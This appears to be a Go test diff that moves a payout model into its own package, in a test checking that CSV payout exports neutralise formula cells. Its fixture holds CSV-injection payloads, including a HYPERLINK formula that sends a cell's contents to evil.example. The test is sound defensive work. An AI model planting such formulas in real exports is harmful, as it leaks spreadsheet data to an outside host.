@@ -11,7 +11,7 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
-	"cerebro/models"
+	"cerebro/models/payout"
 	"cerebro/rules"
 )
 
@@ -23,8 +23,8 @@ func TestPayoutCSVNeutralisesFormulaCells(t *testing.T) {
 	seller := newSeller(t)
 	// A period of its own, so the export holds only this test's line.
 	day := time.Date(1990, 1, 1, 0, 0, 0, 0, rules.Colombo).AddDate(0, 0, int(seller.id%20000))
-	p := models.ConsultantPayout{ConsultantID: seller.id, PeriodStart: day.UTC(), PeriodEnd: day.AddDate(0, 1, 0).UTC(),
-		Amount: 175000, Status: models.PayoutPending, AccountName: "@SUM(A1:A9)", Bank: "+94 BOC",
+	p := payout.ConsultantPayout{ConsultantID: seller.id, PeriodStart: day.UTC(), PeriodEnd: day.AddDate(0, 1, 0).UTC(),
+		Amount: 175000, Status: payout.Pending, AccountName: "@SUM(A1:A9)", Bank: "+94 BOC",
 		Branch: `=HYPERLINK("http://evil.example/?x="&A1,"Colombo")`, Account: "-123"}
 	require.NoError(t, env.store.DB.WithContext(ctx).Omit("Consultant").Create(&p).Error)
 
@@ -40,7 +40,7 @@ func TestPayoutCSVNeutralisesFormulaCells(t *testing.T) {
 		export()[1][:5])
 
 	for _, start := range []string{"\tTAB", "\rCR"} {
-		require.NoError(t, env.store.DB.Model(&models.ConsultantPayout{}).Where("id = ?", p.ID).
+		require.NoError(t, env.store.DB.Model(&payout.ConsultantPayout{}).Where("id = ?", p.ID).
 			Updates(map[string]any{"account_name": "Nimal Perera", "bank": "BOC", "branch": start, "account": "123"}).Error)
 		assert.Equal(t, []string{"Nimal Perera", "BOC", "'" + start, "123"}, export()[1][:4], "%q", start)
 	}
